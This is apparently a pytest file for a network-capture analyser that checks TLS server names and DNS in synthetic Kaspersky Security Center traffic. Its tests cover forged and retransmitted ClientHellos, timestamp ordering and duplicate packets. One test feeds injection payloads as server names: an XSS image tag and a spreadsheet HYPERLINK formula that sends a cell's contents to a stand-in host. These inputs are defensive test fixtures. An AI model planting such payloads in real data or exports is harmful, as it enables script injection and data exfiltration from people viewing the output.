"""Wrong results a break-it pass found with inputs taken from public bug reports against other
packet tools (each test fails without its fix)."""
from __future__ import annotations

import pytest
from scapy.layers.inet import IP, TCP

from chunkcmp import assert_same, row, write
from pcapbuild import eth
from test_decode_more_encaps import client_hello, server_hello

AGENT, CLOUD = "192.0.2.10", "203.0.113.10"
REAL, FORGED = "eu1.ksc.kaspersky.com", "aaa.attacker.examplex"   # (same length)


def _two_hellos(first: str, second: str, longer: int = 0):
    """A TLS connection to 23101 whose ClientHello is sent twice at the same sequence number
    with another SNI (the second copy ``longer`` bytes longer), then answered."""
    def c(t, load=b"", **kw):
        return t, eth(IP(src=AGENT, dst=CLOUD) / TCP(sport=50000, dport=23101, **kw) / load)

    def s(t, load=b"", **kw):
        return t, eth(IP(src=CLOUD, dst=AGENT) / TCP(sport=23101, dport=50000, **kw) / load)

    h1, h2, sh = client_hello(first), client_hello(second), server_hello()
    return [c(1.0, flags="S", seq=99), s(1.01, flags="SA", seq=499, ack=100), c(1.02, flags="A", seq=100, ack=500),
            c(1.03, flags="PA", seq=100, ack=500, load=h1),
            c(1.04, flags="PA", seq=100, ack=500, load=h2 + b"\x00" * longer),
            s(1.05, flags="PA", seq=500, ack=100 + len(h1), load=sh),
            c(1.06, flags="FA", seq=100 + len(h1), ack=500 + len(sh)),
            s(1.07, flags="FA", seq=500 + len(sh), ack=101 + len(h1)),
            c(1.08, flags="A", seq=101 + len(h1), ack=501 + len(sh))]


def test_a_retransmitted_client_hello_cannot_rewrite_the_first_copy(tmp_path):
    """F1: the copy kept is the first one in capture order (Zeek, Wireshark), not the one whose
    bytes sort first."""
    for first, second in ((REAL, FORGED), (FORGED, REAL)):
        for longer in (0, 3):
            path = write(tmp_path, [(t, bytes(p)) for t, p in _two_hellos(first, second, longer)],
                         name=f"{first[:3]}{longer}.pcap")
            r = row(assert_same(path, [200]), resp_p=23101)
            assert r.sni == first, (first, longer)
            # (the handshake is not complete: judged on the first copy's name)
            assert (r.reason == "host_mismatch") == (first == FORGED), (r.verdict, r.reason)


def test_a_name_no_host_could_have_is_under_no_mask(tmp_path):
    """F8: an SNI holding markup or a formula (RFC 6066 §3: an SNI is a DNS host name) is not
    taken for a name under ``*.ksc.kaspersky.com``."""
    for i, sni in enumerate(("<img src=x onerror=alert(1)>.ksc.kaspersky.com",
                             '=HYPERLINK("http://x.example/?"&A1,"c").ksc.kaspersky.com')):
        path = write(tmp_path, [(t, bytes(p)) for t, p in _two_hellos(sni, sni)], name=f"bad{i}.pcap")
        r = row(assert_same(path, [200]), resp_p=23101)
        assert r.sni == sni
        assert (r.verdict, r.reason) == ("unexpected", "host_mismatch")
        # (this test's handshake was aborted: the detail goes on with "; the connection itself failed")
        assert r.detail.split("; the connection itself failed")[0] == \
            f"{sni} is not a host name (an SNI or DNS name holding characters no host name has: forged or damaged)"


def test_a_wildcard_pattern_asked_as_a_name_is_not_a_host_name(tmp_path):
    """Break-it 18 F10: ``*.ksc.kaspersky.com`` as the SNI (a certificate's pattern, which no
    client asks for) passed the host mask as if it were a name under it."""
    for i, sni in enumerate(("*.ksc.kaspersky.com", "eu1.*.kaspersky.com")):
        path = write(tmp_path, [(t, bytes(p)) for t, p in _two_hellos(sni, sni)], name=f"wild{i}.pcap")
        r = row(assert_same(path, [200]), resp_p=23101)
        assert r.sni == sni
        assert (r.verdict, r.reason) == ("unexpected", "host_mismatch")
        assert r.detail.split("; the connection itself failed")[0] == (
            f"{sni} is not a host name (a certificate's wildcard pattern, which no client "
            "asks for: forged, a probe or a broken proxy)")
    # (the real name passes the host check: this handshake is judged on, not as host_mismatch)
    path = write(tmp_path, [(t, bytes(p)) for t, p in _two_hellos(REAL, REAL)], name="real.pcap")
    assert row(assert_same(path, [200]), resp_p=23101).reason != "host_mismatch"


def test_a_whole_exchange_at_one_timestamp_keeps_its_order(tmp_path):
    """F3: with coarse timestamps (1 s, 10 ms, Simple Packet Blocks) a whole connection shares
    one time; its packets are still put in the order a connection has them (the file order is
    not used: copies of one packet must stay next to each other), as Zeek's history reads them."""
    from pcapbuild import tcp_session, udp
    from scapy.layers.dns import DNS, DNSQR, DNSRR
    recs = tcp_session((AGENT, 50000), (CLOUD, 23101), c_data=b"\x16hello", s_data=b"\x16world")
    recs += [udp((AGENT, 40000), ("203.0.113.53", 53), bytes(DNS(id=7, qd=DNSQR(qname=REAL)))),
             udp(("203.0.113.53", 53), (AGENT, 40000),
                 bytes(DNS(id=7, qr=1, qd=DNSQR(qname=REAL), an=DNSRR(rrname=REAL, rdata=CLOUD))))]
    fine = {r.resp_p: r.history for r in assert_same(write(tmp_path, [(t, bytes(p)) for t, p in recs],
                                                          name="fine.pcap"), [300]).itertuples()}
    # the same packets, every one at the same second, written in reverse order
    coarse = [(1000.0, bytes(p)) for _, p in reversed(recs)]
    got = {r.resp_p: r.history for r in assert_same(write(tmp_path, coarse, name="coarse.pcap"), [300]).itertuples()}
    assert fine == {23101: "ShADdFf", 53: "Dd"}
    assert got == fine


def test_a_reset_at_the_same_timestamp_comes_last(tmp_path):
    """F3: a ClientHello answered by a reset within one coarse timestamp: ShADr (Zeek), not ShArD."""
    def c(load=b"", **kw):
        return 5.0, bytes(eth(IP(src=AGENT, dst=CLOUD) / TCP(sport=50000, dport=23101, **kw) / load))

    def s(**kw):
        return 5.0, bytes(eth(IP(src=CLOUD, dst=AGENT) / TCP(sport=23101, dport=50000, **kw)))
    h = client_hello(REAL)
    recs = [c(flags="S", seq=99), s(flags="SA", seq=499, ack=100), c(flags="A", seq=100, ack=500),
            c(flags="PA", seq=100, ack=500, load=h), s(flags="RA", seq=500, ack=100 + len(h))]
    for name, order in (("file.pcap", recs), ("reversed.pcap", recs[::-1])):
        r = row(assert_same(write(tmp_path, order, name=name), [300]), resp_p=23101)
        assert (r.history, r.conn_state, r.verdict, r.reason) == ("ShADr", "RSTR", "blocked", "tls_failed")


def test_a_clock_step_back_is_warned_about(tmp_path):
    """F4: a capture whose timestamps go back 1 s (an NTP step on the capturing host) at one
    place, inside a chunk or at a chunk boundary: one warning naming one place; none when the
    capture is in time order (reorderings under 0.5 s are not steps)."""
    from kscc_traffic.analyze import analyze_file
    from kscc_traffic.chunked import ChunkedAnalysis
    from kscc_traffic.rules import load_rules
    from pcapbuild import udp
    recs = [udp((AGENT, 40000 + i), (CLOUD, 15000), b"x" * 200, t=100.0 + 0.01 * i) for i in range(40)]
    stepped = recs[:20] + [(t - 1.0, p) for t, p in recs[20:]]
    jitter = [(t + (0.3 if i % 2 else 0.0), p) for i, (t, p) in enumerate(recs)]
    rules = load_rules()
    for name, rs, want in (("stepped.pcap", stepped, 1), ("jitter.pcap", jitter, 0), ("inorder.pcap", recs, 0)):
        path = write(tmp_path, [(t, bytes(p)) for t, p in rs], name=name)
        for chunk in (1 << 20, 20 * 258 + 24):    # whole; a chunk boundary near the step
            run = ChunkedAnalysis(path, rules, name=name, chunk_bytes=chunk)
            list(run.batches())
            assert run.steps_back == want, (name, chunk)
            lines = [w for w in run.stats.warnings if "timestamps go back" in w]
            assert len(lines) == want and (not want or "at 1 place " in lines[0])
        assert len(analyze_file(path, rules).flows) == 40


def test_live_session_finds_copies_as_the_file_analysis_does(tmp_path):
    """Two different datagrams of the same length and IP id 10 ms apart (summarised packets of
    a long flow) are two packets, not a packet and its copy, in a live session too; a true copy
    is one."""
    from scapy.layers.inet import UDP
    from test_capture_end import _live_final
    from kscc_traffic.analyze import analyze_file
    from kscc_traffic.rules import load_rules

    def dgram(t, ident, data):
        return t, bytes(eth(IP(src=AGENT, dst=CLOUD, id=ident) / UDP(sport=40000, dport=15000) / data))
    recs = [dgram(10.0 + 0.02 * i, 100 + i, b"%02d" % i * 50) for i in range(80)]   # (past what is kept whole)
    recs += [dgram(13.0, 77, b"a" * 100), dgram(13.01, 77, b"b" * 100),    # two datagrams
             dgram(13.5, 78, b"c" * 100), dgram(13.501, 78, b"c" * 100)]   # one and its copy
    path = write(tmp_path, recs, name="ids.pcap")
    ref = row(analyze_file(path, load_rules()).flows, resp_p=15000)
    live = row(_live_final(path), resp_p=15000)
    assert ref.orig_pkts == 83
    assert (live.orig_pkts, live.orig_bytes, live.orig_ip_bytes) == (ref.orig_pkts, ref.orig_bytes, ref.orig_ip_bytes)


@pytest.mark.parametrize("back", ["ending_at_isn", "far_before", "half_the_space"])
def test_a_segment_written_later_before_the_stream_start_changes_nothing(tmp_path, back):
    """Second pass, F1: a later ClientHello whose sequence number puts it before the SYN's + 1
    (just before, 100,000 bytes before, or 2**31 away) is old data, as for Zeek: the SNI is the
    one sent first, whichever of the two names that is."""
    for first, second in ((REAL, FORGED), (FORGED, REAL)):
        recs = _two_hellos(first, second)
        h2 = client_hello(second)
        seq = {"ending_at_isn": 100 - len(h2), "far_before": 100 - 100_000,
               "half_the_space": (100 + (1 << 31)) % (1 << 32)}[back] % (1 << 32)
        t, p = recs[4]
        p[TCP].seq = seq
        p[TCP].remove_payload()
        recs[4] = (t, p / h2)
        path = write(tmp_path, [(t, bytes(p)) for t, p in recs], name=f"{back}{first[:3]}.pcap")
        r = row(assert_same(path, [200]), resp_p=23101)
        assert r.sni == first, (back, first)


@pytest.mark.skipif(not __import__("shutil").which("tshark"), reason="tshark is not installed")
def test_simple_packet_blocks_get_the_same_time_with_tshark(tmp_path):
    """Second pass, F2: records without a time (pcapng Simple Packet Blocks, which tshark shows
    without a time) take the time of the record before (+ 1 ns per block, break-it 12 F7) with
    both engines, so a DNS answer before them still names their connection."""
    import struct
    from scapy.layers.dns import DNS, DNSQR, DNSRR
    from pcapbuild import tcp_session, udp
    from kscc_traffic.analyze import analyze_file
    from kscc_traffic.rules import load_rules

    def blk(kind, body):
        body += b"\0" * (-len(body) % 4)
        return struct.pack("<II", kind, len(body) + 12) + body + struct.pack("<I", len(body) + 12)

    def epb(ts_us, d):
        return blk(6, struct.pack("<IIIII", 0, ts_us >> 32, ts_us & 0xFFFFFFFF, len(d), len(d)) + d)
    q = DNS(id=1, rd=1, qd=DNSQR(qname="evil.example"))
    a = DNS(id=1, qr=1, qd=DNSQR(qname="evil.example"), an=DNSRR(rrname="evil.example", rdata="203.0.113.66"))
    out = blk(0x0A0D0D0A, struct.pack("<IHHq", 0x1A2B3C4D, 1, 0, -1)) + blk(1, struct.pack("<HHI", 1, 0, 0))
    out += epb(1_700_000_000_000_000, bytes(udp((AGENT, 40000), ("203.0.113.53", 53), bytes(q))[1]))
    out += epb(1_700_000_000_010_000, bytes(udp(("203.0.113.53", 53), (AGENT, 40000), bytes(a))[1]))
    for _, p in tcp_session((AGENT, 50000), ("203.0.113.66", 23101), c_data=b"\x16\x03\x01\x00\x05hello"):
        d = bytes(p)
        out += blk(3, struct.pack("<I", len(d)) + d)
    path = tmp_path / "spb.pcapng"
    path.write_bytes(out)
    rules = load_rules()
    for engine in ("builtin", "tshark"):
        r = row(analyze_file(path, rules, engine).flows, resp_p=23101)
        assert (r.ts_ns, r.server_name, r.verdict, r.reason) == (1_700_000_000_010_000_001, "evil.example",
                                                                "unexpected", "host_mismatch"), engine
